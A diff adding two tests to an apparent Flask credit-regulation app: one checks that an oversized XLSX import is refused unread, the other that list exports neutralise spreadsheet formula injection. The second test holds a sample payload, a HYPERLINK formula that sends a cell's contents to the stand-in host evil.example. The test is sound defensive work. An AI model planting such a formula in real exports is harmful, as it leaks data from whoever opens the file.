@@ -196,3 +196,34 @@ def test_the_public_list_pages_through_long_lists(app, client, make, regulator, 
     assert "page=2" in first
     second = client.get("/credit/public/lists/serious?page=2")
     assert second.status_code == 200 and "page=1" in second.get_data(as_text=True)
+
+
+def test_a_600k_row_fact_workbook_is_refused_before_any_row_is_read(app, client, login_as,
+                                                                      monkeypatch):
+    from tests.helpers import count_xlsx_rows, csrf_token, huge_xlsx
+
+    login_as("regulator")
+    parsed = count_xlsx_rows(monkeypatch)
+    token = csrf_token(client.get("/credit/facts/import").data)
+    response = client.post("/credit/facts/import", data={
+        "csrf_token": token, "file": (io.BytesIO(huge_xlsx(600_000, ("uscc", "kind"))),
+                                      "facts.xlsx")}, content_type="multipart/form-data")
+    assert response.status_code == 422
+    assert "一次最多导入 5000 行" in response.get_data(as_text=True)
+    assert parsed["rows"] == 0
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(CreditFact)) == 0
+
+
+def test_list_downloads_neutralize_cells_a_spreadsheet_would_run(app, client, make, regulator):
+    """A subject named like a formula (its manager typed it) reaches the regulator's Excel as
+    text: CSV and XLSX cells start with an apostrophe, XLSX cells are never formulas."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'
+    _entry(make.org(name=name, legal_representative="@SUM(1+1)"), regulator)
+    text = client.get("/credit/public/lists/serious/export.csv").data.decode("utf-8-sig")
+    assert f"'{name}".replace('"', '""') in text and "'@SUM(1+1)" in text
+    assert f",{name[:10]}" not in text.replace('"', "")
+    xlsx = client.get("/credit/public/lists/serious/export.xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.data)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value]
+    assert all(c.data_type != "f" for c in cells)
+    assert {"'" + name, "'@SUM(1+1)"} <= {c.value for c in cells}
